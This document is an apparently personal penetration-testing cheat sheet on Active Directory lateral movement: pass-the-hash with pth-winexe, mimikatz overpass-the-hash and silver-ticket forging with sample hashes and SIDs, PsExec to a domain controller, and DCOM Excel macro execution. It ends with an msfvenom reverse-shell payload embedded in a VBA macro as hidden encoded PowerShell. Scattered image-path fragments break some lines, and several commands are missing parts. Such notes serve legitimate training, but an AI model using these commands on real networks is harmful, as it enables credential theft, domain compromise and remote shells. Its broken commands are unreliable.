AD Lateral Movements

With creds

python /usr/share/doc/python3-impacket/examples/

Pass the Hash

Auth with NTLM hash instead of a password. Works for NTLM only - e.g. when using IP instead of hostname within the AD.

The mechanism works as follows:

Attacker connects to the victim via SMB and performs the auth using the NTLM hash. A Windows service is started (e.g. cmd.exe or powershell) and is communicated with using Named Pipes via the Service Control Manager API. To make it work, SMB needs to be allowed on the Firewall (port 445) and Windows File and Print Sharing feature needs to be enabled.


  • PsExec from Metasploit
  • Passing-the-hash toolkit (e.g. pth-winexe)
  • Impacket# pth-winexe example
pth-winexe -U <username>%<blank_lm/blank_ntlm>:<hash> //<share/IP> <command>

# aad3b435b51404eeaad3b435b51404ee - blank LM
# 31d6cfe0d16ae931b73c59d7e0c089c0 - blank NTLM

# example:
pth-winexe -U offsec%aad3b435b51404eeaad3b435b51404ee:2892d26cdf84d7a70e2eb3b9f05c425e // cmdOverpass the Hash

This technique uses TGT which can be executed on the same machine where the ticket was generated.

First, you need to have access to a privileged account (local administrator). From there, you start cmd as an Administrator, launch mimikatz and dumpthe hashes:


Turning NTLM hash into a Kerberos ticket

# in the mimikatz

sekurlsa::pth /user:<username> /domain:<> /ntlm:<NTLM_hash> /run:<process>

# example:
sekurlsa::pth /user:jeff_admin / /ntlm:e2b475c11da2a0748290d87aa966c327 /run:PowerShell.exe

Generate TGT

# By authenticating to a DC, e.g.:

net use \\<dc> # e.g. \\dc01
klist # list tickets

Now we can reuse the ticket and log in to the DC with PsExec.exe:

.\PsExec.exe \\dc01 cmd.exe # this will log you in to the DC as the user for which the ticket was generated

Pass the Ticket

This technique uses TGS which may be exported and re-injected elsewhere.Create the Silver Ticket

  1. Obtain SID
  2. Flush the existing tickets
  3. Genetate the silver ticket Obtain SID
whoami /user
# from the example output: S-1-5-21-1602875587-2787523311-2599479668-1103
# SID is: S-1-5-21-1602875587-2787523311-2599479668

Flush the existing tickets

# in mimikatz

Generate the silver ticket

# in mimikatz
kerberos::golden /user:<username> /domain:<domain>/sid:<sid> /target:<target_app> /service:<service> /rc:<password_hash> /ptt

# example:
kerberos::golden /user:offsec / /sid:S-1-5-21-1602875587-2787523311-2599479668 / /service:HTTP
/rc4:E2B475C11DA2A0748290D87AA966C327 /ptt

Distributed Component Object Model (DCOM)


Administrator rights are required to call DCOM Service Control Manager (which is like an API). Both Outlook and PowerPoit can be used for the lateral movement. TCP 135 (DCOM) and 445 (SMB) are required for this attach.

Create an instance of the object

$com = [activator]::CreateInstance([type]::GetTypeFromProgId("Excel.Application", "<target_ip>"))

$com | Get-Member
# look for Run method which allows us to execute VBA (e.g. the following entry: Run | Method | Variant Run... )
# and Workbooks object that lets us to open a Workbook (i.e. excel file; e.g. the following entry: Workbooks | Property | Workbooks Workbooks () {get} )

Create VBA MacroSave it in the legacy .xls format.

Sub mymacro()
    Shell("notepad.exe") # or another payload
End Sub

Transfer the file to the target machine

Since we must be local administrator to take advantage of DCOM, we should also have access to the remote filesystem via SMB, which we use to copy the file to the target:

$LocalPath = "<local_path>\myexcel.xls" # e.g. C:\Users\jeff_admin.corp\myexcel.xls"
$RemotePath = "\\<target_ip>\c$\myexcel.xls"
[System.IO.File]::Copy($LocalPath, $RemotePath, $True)

Open the transferred file$Path = "\\<target_ip>\c$\Windows\sysWOW64\config\systemprofile\Desktop" # this is required because application instantiated through DCOM are running from the SYSTEM account, which doesn't have a profile. So we create one.

$temp = []::createDirectory($Path)

$Workbook = $com.Workbooks.Open("C:\myexcel.xls") # and now we can open the workbook

Run the macro

Now that we have opened the workbook, we can run our macro remotely:


Reverse ShellMacro should contain the reverse shell, so we generate it and put it in the macro:

msfvenom -p windows/shell_reverse_tcp LHOST=<our_ip> LPORT=<our_port> -f
hta-psh -o evil.htaSplit the payload and add execution command:

str = "powershell.exe -nop -w hidden -e aQBmACgAWwBJAG4AdABQ....."
n = 50
for i inrange(0, len(str), n):
    print "Str = Str + " + '"' + str[i:i+n] + '"'

And now put it in the macro:

Sub MyMacro()
Dim Str As String
Str = Str +"powershell.exe -nop -w hidden -eaQBmACgAWwBJAG4Ad"
Shell (Str)
End Sub